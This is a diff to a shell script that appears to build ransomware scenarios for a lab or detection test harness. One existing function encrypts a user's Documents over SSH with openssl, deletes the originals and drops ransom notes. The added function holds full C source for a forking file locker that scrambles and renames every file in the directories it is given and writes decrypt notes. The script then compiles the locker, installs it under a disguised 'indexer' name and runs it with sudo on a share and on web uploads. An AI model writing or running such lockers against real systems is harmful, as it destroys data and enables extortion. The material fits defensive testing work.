@@ -1254,3 +1254,62 @@ sc_h37_ssh_openssl_cms_pubkey() {
   sshx mkowalski 'cp /var/tmp/.cm/pub.crt /dev/shm/.p; find ~/Documents -type f | while read -r f; do openssl cms -encrypt -binary -aes256 -outform DER -in "$f" -out "$f.p7e" /dev/shm/.p && rm -f "$f"; done; for d in ~/Documents/*/; do echo "Encrypted with RSA-2048. Only we hold the key: p7e@onion.example" > "$d/P7E-README.txt"; done; rm -f /dev/shm/.p'
   rm -rf /var/tmp/.cm
 }
+
+# ---- thirteenth batch, optional attack: a compiled locker that forks 8 workers (no exec: the workers are the same
+# binary), each taking the next directory of the share; the parent writes the notes
+pre_h38_ssh_sudo_forked_workers() {
+  install -d -m 700 /root/.h38
+  cat > /root/.h38/w.c <<'C'
+#include <dirent.h>
+#include <fcntl.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/stat.h>
+#include <sys/wait.h>
+#include <unistd.h>
+static void lock(const char *p) {
+  struct stat st; if (stat(p, &st) || st.st_size <= 0) return;
+  unsigned char *b = malloc(st.st_size); int fd = open(p, O_RDONLY); if (fd < 0) { free(b); return; }
+  ssize_t r = read(fd, b, st.st_size); close(fd); if (r != st.st_size) { free(b); return; }
+  unsigned int s = 0x9e3779b9u; for (off_t i = 0; i < st.st_size; i++) { s = s * 1103515245u + 12345u; b[i] ^= (unsigned char)(s >> 16); }
+  fd = open(p, O_WRONLY | O_TRUNC); if (fd >= 0) { write(fd, b, st.st_size); close(fd); }
+  char q[4200]; snprintf(q, sizeof q, "%s.w8x", p); rename(p, q); free(b);
+}
+static void walk(const char *d) {
+  DIR *dir = opendir(d); struct dirent *e; char p[4096]; struct stat st; if (!dir) return;
+  while ((e = readdir(dir))) {
+    if (e->d_name[0] == '.' || strstr(e->d_name, ".w8x") || !strcmp(e->d_name, "W8-DECRYPT.txt")) continue;
+    snprintf(p, sizeof p, "%s/%s", d, e->d_name); if (lstat(p, &st)) continue;
+    if (S_ISDIR(st.st_mode)) walk(p); else if (S_ISREG(st.st_mode)) lock(p);
+  }
+  closedir(dir);
+}
+int main(int c, char **v) {
+  char *dirs[256]; int n = 0;
+  for (int a = 1; a < c; a++) {
+    DIR *dir = opendir(v[a]); struct dirent *e; if (!dir) continue;
+    while ((e = readdir(dir)) && n < 256) if (e->d_type == DT_DIR && e->d_name[0] != '.') {
+      dirs[n] = malloc(4096); snprintf(dirs[n], 4096, "%s/%s", v[a], e->d_name); n++; }
+    closedir(dir);
+  }
+  int running = 0;
+  for (int i = 0; i < n; i++) {
+    if (running == 8) { wait(NULL); running--; }
+    pid_t pid = fork();
+    if (pid == 0) { walk(dirs[i]); _exit(0); }
+    if (pid > 0) running++;
+  }
+  while (running-- > 0) wait(NULL);
+  for (int i = 0; i < n; i++) { char p[4200]; snprintf(p, sizeof p, "%s/W8-DECRYPT.txt", dirs[i]);
+    FILE *f = fopen(p, "w"); if (f) { fputs("8 workers encrypted this share. w8@onion.example\n", f); fclose(f); } }
+  return 0;
+}
+C
+  gcc -O2 -o /root/.h38/w /root/.h38/w.c && install -m 755 /root/.h38/w /var/tmp/.w8-indexer; rm -rf /root/.h38
+}
+sc_h38_ssh_sudo_forked_workers() {
+  echo "files $(( $(find /srv/nas/share -type f | wc -l) + $(find /var/www/shop/uploads -type f | wc -l) )) dirs $(( $(find /srv/nas/share -mindepth 1 -type d | wc -l) + $(find /var/www/shop/uploads -mindepth 1 -type d | wc -l) ))" > $CASE/facts
+  sshx deploy 'sudo /var/tmp/.w8-indexer /srv/nas/share /var/www/shop/uploads'
+  rm -f /var/tmp/.w8-indexer
+}
